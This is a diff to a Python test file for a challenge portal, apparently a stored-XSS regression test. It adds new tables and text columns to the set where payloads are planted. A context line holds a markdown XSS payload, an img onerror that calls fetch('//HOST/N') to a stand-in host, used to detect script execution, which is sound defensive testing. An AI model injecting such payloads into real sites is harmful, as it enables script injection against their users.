@@ -23,12 +23,15 @@ from portal.db.tables import (
     Base,
     Challenge,
     Column,
+    Download,
     Evaluation,
     Event,
+    ExtraTries,
     LoginSession,
     Participation,
     Person,
     Phase,
+    Question,
     RunLog,
     Submission,
     Team,
@@ -78,13 +81,16 @@ MARKDOWN = (
     r"$$\text{</math><img src=x onerror=fetch('//HOST/N')>}$$",
 )
 TEXTS: dict[type[Base], tuple[str, ...]] = {
-    Challenge: ("title", "terms"),
+    Challenge: ("title", "terms", "summary"),
     ChallengePage: ("title", "markdown"),
     Phase: ("title",),
     Column: ("title",),
     Person: ("name", "display_name", "pseudonym"),
     Team: ("name",),
-    Participation: ("note",),
+    Participation: ("note", "reason", "contact"),
+    Download: ("title",),
+    Question: ("title", "words", "answer", "note"),
+    ExtraTries: ("reason",),
     Submission: ("filename", "note"),
     Evaluation: ("message", "detail"),
     Event: ("message",),
@@ -171,8 +177,9 @@ def _plant(session: Session, listener: Listener) -> int:
 def test_every_text_that_is_planted_is_one(served: Site) -> None:
     """A column that is added later has to be thought of here: which are not planted, and why."""
     known = {
-        "challenges": {"slug", "join_policy"},  # words of ours
-        "phases": {"slug", "feedback", "logs", "failures"},
+        # Words of ours, and paths, which become addresses on this site only.
+        "challenges": {"slug", "join_policy", "timezone", "logo", "terms_folder"},
+        "phases": {"slug", "after_slug", "feedback", "logs", "failures"},
     }
     for table in (Challenge, Phase):
         found = {
